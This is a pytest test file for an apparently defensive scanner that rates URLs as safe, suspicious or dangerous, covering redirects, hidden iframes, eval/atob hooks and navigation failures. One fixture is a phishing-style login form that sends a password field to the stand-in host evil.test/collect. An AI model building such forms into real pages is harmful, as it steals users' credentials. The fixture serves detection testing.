import pytest

from qssage.app.scanner import ScanState, scan_url
from qssage.config import ScanSettings
from qssage.errors import InvalidURL, NavigationFailed, ScanTimeout
from qssage.models import Risk

LOGIN_PAGE = '''
<html><body>
<form action="http://evil.test/collect" method="post">
  <input name="id"><input type="password" name="pw">
</form>
</body></html>
'''


class Sink:
    def __init__(self):
        self.calls = []

    def __call__(self, url, location, assessment):
        self.calls.append((url, location, assessment))


def test_invalid_url_raises():
    with pytest.raises(InvalidURL):
        scan_url("not a url", settings=ScanSettings())


def test_whitelisted_domain_short_circuits(session_factory, settings):
    factory = session_factory()
    result = scan_url("google.com", settings=settings, session_factory=factory)
    assert result["normalized_url"] == "http://google.com/"
    assert result["safe"] is True
    assert result["risk"] == "SAFE"
    assert result["reason"] == "trusted domain"
    assert result["state"] == ScanState.SHORT_CIRCUIT_SAFE.value
    assert factory.sessions == []


def test_clean_page_is_safe_and_not_reported(session_factory, settings, clock):
    factory = session_factory(html="<html><body><p>menu</p></body></html>")
    sink = Sink()
    result = scan_url("https://cafe.example/menu", settings=settings, session_factory=factory,
                      report_sink=sink, clock=clock)
    assert result["risk"] == "SAFE"
    assert result["redirects"] == 0
    assert result["reported"] is False
    assert sink.calls == []
    assert factory.sessions[0].closed


def test_ip_login_page_is_dangerous_and_reported(session_factory, settings, clock):
    factory = session_factory(html=LOGIN_PAGE)
    sink = Sink()
    result = scan_url("http://203.0.113.9/login", location="37.56,126.97", settings=settings,
                      session_factory=factory, report_sink=sink, clock=clock)
    assert result["risk"] == "DANGEROUS"
    assert result["safe"] is False
    assert result["features"]["host_is_ip"] is True
    assert result["features"]["external_forms"] == ["http://evil.test/collect"]
    assert len(sink.calls) == 1
    url, location, assessment = sink.calls[0]
    assert url == "http://203.0.113.9/login"
    assert location == "37.56,126.97"
    assert assessment.risk is Risk.DANGEROUS


def test_redirect_chain_with_hidden_iframe(session_factory, settings, clock):
    factory = session_factory(
        goto_redirects=["http://hop1.test/"],
        timed_redirects=[(1.0, "http://hop2.test/landing")],
        hidden_iframes=1,
    )
    result = scan_url("http://start.test/", settings=settings, session_factory=factory, clock=clock)
    assert result["redirects"] == 2
    assert result["final_url"] == "http://hop2.test/landing"
    assert result["chain"] == ["http://start.test/", "http://hop1.test/", "http://hop2.test/landing"]
    assert result["risk"] == "DANGEROUS"
    assert any("redirect chain" in r for r in result["reasons"])


def test_hook_observations_are_scored(session_factory, settings, clock):
    factory = session_factory(observe=[("eval", 120), ("atob", 25)])
    result = scan_url("https://shop.example/", settings=settings, session_factory=factory, clock=clock)
    assert result["features"]["dynamic_exec"] is True
    assert result["features"]["decoded_payload"] is True
    assert result["score"] == 50
    assert result["risk"] == "DANGEROUS"


def test_redirect_to_trusted_host_is_discounted(session_factory, settings, clock):
    factory = session_factory(goto_redirects=["https://www.google.com/"])
    result = scan_url("https://bit.ly/abc", settings=settings, session_factory=factory, clock=clock)
    assert result["final_url"] == "https://www.google.com/"
    assert result["score"] == 0
    assert result["risk"] == "SAFE"


def test_blocked_navigation_is_dangerous_and_reported(session_factory, settings, clock, blocked_error):
    factory = session_factory(nav_error=blocked_error)
    sink = Sink()
    result = scan_url("http://evil.test/", settings=settings, session_factory=factory,
                      report_sink=sink, clock=clock)
    assert result["risk"] == "DANGEROUS"
    assert "blocked" in result["reason"]
    assert len(sink.calls) == 1
    assert factory.sessions[0].closed


def test_unreachable_page_is_dangerous(session_factory, settings, clock):
    error = NavigationFailed("http://gone.test/", "net::ERR_NAME_NOT_RESOLVED")
    sink = Sink()
    result = scan_url("http://gone.test/", settings=settings, session_factory=session_factory(nav_error=error),
                      report_sink=sink, clock=clock)
    assert result["risk"] == "DANGEROUS"
    assert result["reason"] == "page unreachable"
    assert len(sink.calls) == 1


def test_navigation_failure_after_redirect_to_trusted_host_is_safe(session_factory, clock):
    settings = ScanSettings(whitelist=frozenset({"trusted.test"}))

    factory = session_factory(nav_error=NavigationFailed("http://short.test/x", "net::ERR_ABORTED"))
    original = factory

    def factory_with_hop(tracker, observations, threshold=8):
        tracker.record("https://trusted.test/home")
        return original(tracker, observations, threshold)

    sink = Sink()
    result = scan_url("http://short.test/x", settings=settings, session_factory=factory_with_hop,
                      report_sink=sink, clock=clock)
    assert result["risk"] == "SAFE"
    assert result["reason"] == "trusted domain, navigation blocked"
    assert sink.calls == []


def test_report_sink_failure_does_not_fail_scan(session_factory, settings, clock, blocked_error):
    def broken_sink(url, location, assessment):
        raise RuntimeError("db down")

    result = scan_url("http://evil.test/", settings=settings, session_factory=session_factory(nav_error=blocked_error),
                      report_sink=broken_sink, clock=clock)
    assert result["risk"] == "DANGEROUS"
    assert result["reported"] is False


def test_unexpected_error_closes_session(session_factory, settings, clock):
    factory = session_factory(goto_exception=RuntimeError("browser crashed"))
    with pytest.raises(RuntimeError):
        scan_url("http://crash.test/", settings=settings, session_factory=factory, clock=clock)
    assert factory.sessions[0].closed


def test_budget_exhaustion_raises_scan_timeout(session_factory, clock):
    settings = ScanSettings(scan_budget=2.0)
    factory = session_factory(timed_redirects=[(0.5 * i, f"http://hop{i}.test/") for i in range(1, 20)])
    with pytest.raises(ScanTimeout):
        scan_url("http://loop.test/", settings=settings, session_factory=factory, clock=clock)
    assert factory.sessions[0].closed


@pytest.mark.parametrize("status", [404, 503])
def test_error_status_counts_as_failed_load(session_factory, settings, clock, status):
    factory = session_factory(status=status)
    result = scan_url("https://kit.example/", settings=settings, session_factory=factory, clock=clock)
    assert result["features"]["load_failed"] is True
    assert result["score"] == 30
    assert result["risk"] == "SUSPICIOUS"


def test_missing_response_status_is_not_a_failure(session_factory, settings, clock):
    result = scan_url("https://cafe.example/", settings=settings, session_factory=session_factory(status=None),
                      clock=clock)
    assert result["features"]["load_failed"] is False
    assert result["risk"] == "SAFE"
